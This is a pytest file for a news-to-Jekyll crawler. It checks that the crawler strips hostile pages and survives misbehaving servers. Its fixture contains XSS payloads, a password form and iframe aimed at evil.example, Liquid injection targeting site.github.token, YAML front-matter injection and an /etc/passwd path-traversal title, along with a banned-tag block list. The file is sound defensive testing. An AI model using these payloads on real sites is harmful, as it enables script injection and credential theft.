"""Hostile pages and misbehaving servers in one feed: the crawl ends, good pages post, bad ones do not."""

from __future__ import annotations

import gzip
import os
import re

from conftest import FIXTURES, PAGES, build_with_jekyll, read_post, run_newsbot
from newsbot.devserver import SavedPage

# Written for this test (not a real site): everything a page could use to attack the blog.
HOSTILE_ARTICLE = """<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>{title}</title><meta property="og:title" content="{title}">
<meta property="article:published_time" content="2025-03-01T10:00:00+00:00">
<meta property="og:image" content="javascript:alert(1)">
</head><body><article><h1>{heading}</h1>
<p>First paragraph of a hostile page, long enough to be an article body. <script>alert('body')</script>
It carries {{{{ site.github.token }}}} and {{% include secrets.html %}} and {{% endraw %}} tags.</p>
<p onmouseover="steal()">Second paragraph with <a href="javascript:alert(2)">a script link</a>,
<a href="data:text/html,<script>x</script>">a data link</a> and <img src=x onerror=alert(3)> an image.
<iframe src="https://evil.example/"></iframe><style>body{{display:none}}</style></p>
<form action="https://evil.example/"><input name="password"></form>
<p>Third paragraph: more ordinary words so extraction sees a real article with enough text in it.</p>
</article></body></html>"""

TITLES = {
    "/hostile/liquid": ("{{ site.github.token }} {% raw %} headline {% endraw %}", "Liquid headline"),
    "/hostile/yaml": ('---\ntitle: injected\n---\n: # \' " \x00 \u202e RTL', "YAML headline"),
    "/hostile/script": ("&lt;script&gt;alert(1)&lt;/script&gt;<b>Bold</b> news", "Script headline"),
    "/hostile/path": ("../../../etc/passwd" + " long" * 2000, "Path headline"),
}


def _page(body: bytes, content_type: str = "text/html; charset=utf-8", title: str = "") -> SavedPage:
    return SavedPage(path="", body=body, content_type=content_type, title=title)


def _install_misbehaving_routes(site) -> None:
    def server_error(handler):
        handler.send_response(500)
        handler.send_header("Content-Length", "0")
        handler.end_headers()

    def reset(handler):
        handler.connection.shutdown(2)

    def truncated(handler):
        handler.send_response(200)
        handler.send_header("Content-Type", "text/html")
        handler.send_header("Content-Length", "100000")
        handler.end_headers()
        handler.wfile.write(b"<html><body><p>cut off")
        handler.connection.shutdown(2)

    def slow(handler):
        import time

        time.sleep(6)
        server_error(handler)

    for path, handler in {"/bad/500": server_error, "/bad/reset": reset, "/bad/truncated": truncated, "/bad/slow": slow}.items():
        site.handlers[path] = handler
        site.add(SavedPage(path=path, body=b""))


def test_hostile_feed_ends_by_itself_posts_good_pages_only_and_logs_no_traceback(tmp_path, saved_site, jekyll):
    from newsbot.devserver import LocalServer

    site = saved_site
    good = {path for path in site.pages if any(host in path for host in ("apnews.com", "reuters.com", "bbc."))}
    good = set(sorted(good)[:3])
    for path in list(site.pages):
        if path not in good:
            del site.pages[path]
    for path, (title, heading) in TITLES.items():
        body = HOSTILE_ARTICLE.format(title=title.replace('"', "&quot;"), heading=heading).encode("utf-8")
        site.add(SavedPage(path=path, body=body))
    latin1 = gzip.decompress((FIXTURES / "hostile" / "nachrichten-at-latin1.html.gz").read_bytes())
    site.add(SavedPage(path="/charset/latin1", body=latin1, content_type="text/html; charset=utf-8"))
    korean = gzip.decompress((PAGES / "fundus-kr-HankookIlbo_2025_05_15.html.gz").read_bytes()).decode("utf-8")
    cp949 = korean.replace('charset="utf-8"', 'charset="euc-kr"').encode("cp949", errors="replace")
    site.add(SavedPage(path="/charset/cp949", body=cp949, content_type="text/html; charset=euc-kr"))
    site.add(SavedPage(path="/bad/binary", body=os.urandom(20000)))
    site.add(SavedPage(path="/bad/empty", body=b""))
    site.add(SavedPage(path="/bad/png", body=b"\x89PNG\r\n\x1a\n" + os.urandom(500), content_type="image/png"))
    site.add(SavedPage(path="/bad/huge", body=b"<html><body>" + b"<p>word </p>" * 200_000))
    _install_misbehaving_routes(site)

    with LocalServer(site) as url:
        result = run_newsbot(
            tmp_path, f"{url}/feed.xml", "-s", "DOWNLOAD_TIMEOUT=3", "-s", "RETRY_TIMES=0",
            "-s", "DOWNLOAD_MAXSIZE=1000000", "-s", "DOWNLOAD_WARNSIZE=0", timeout=180,
        )
    log = result.stdout + result.stderr
    assert result.returncode == 0, log[-3000:]
    assert "Traceback" not in log
    posts = {path.name: read_post(path) for path in (tmp_path / "_posts").glob("*.md")}
    # 3 real pages, 4 hostile but well-formed articles, the two misencoded real pages.
    assert len(posts) == 3 + len(TITLES) + 2, sorted(posts)
    for name, (matter, body) in posts.items():
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}-[a-z0-9-]{1,80}\.md", name)
        for field in ("title", "excerpt", "feature_text"):
            assert not re.search(r"<[A-Za-z/!]", matter[field]) and "\x00" not in matter[field] and "\u202e" not in matter[field]
        assert not matter["image"].lower().startswith("javascript")
        lowered = body.lower()
        for banned in ("<script", "<iframe", "<style", "<form", "<input", "onerror", "onmouseover", "javascript:", "data:text"):
            assert banned not in lowered, (name, banned)
        assert "{{" not in body and "{%" not in body
    titles = {matter["title"] for matter, _ in posts.values()}
    assert "Was bringen \"alternative\" Therapien bei Krebs?" in titles
    assert "왜 경상도, 전라도 나눠서 싸우나... DJ 고향에서 '국민 통합' 외친 이재명" in titles
    latin = next(body for matter, body in posts.values() if matter["title"].startswith("Was bringen"))
    assert "Darüber diskutieren Experten seit gestern" in latin
    assert all(len(title) <= 300 for title in titles)
    assert "newsbot/article/error" in log and "newsbot/article/not_html" in log
    assert "newsbot/validate/no_title" in log
    built = build_with_jekyll(jekyll, tmp_path, tmp_path.parent / f"{tmp_path.name}-site", min_pages=len(posts))
    assert "{{ site.github.token }}" in built  # shown as text in the title, never evaluated
    assert "&#123;&#123; site.github.token &#125;&#125;" in built  # the body's copy, as entities
